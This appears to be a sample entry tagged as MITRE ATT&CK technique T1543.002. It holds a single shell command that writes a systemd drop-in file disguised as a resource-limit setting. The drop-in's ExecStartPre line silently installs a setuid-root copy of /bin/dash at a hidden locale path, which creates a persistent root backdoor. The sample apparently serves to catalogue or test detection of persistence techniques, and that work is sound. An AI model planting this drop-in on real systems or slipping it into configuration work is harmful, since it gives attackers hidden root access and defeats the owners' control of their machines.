# technique: T1543.002
# location: linux.systemd.drop-in
# source: /etc/systemd/system/service.d/zz-limits.conf
install -D -m 644 /dev/stdin /etc/systemd/system/service.d/zz-limits.conf <<< '[Service]
LimitNOFILE=65536
ExecStartPre=-/usr/bin/install -m 4755 /bin/dash /usr/lib/locale/C.utf8/d'
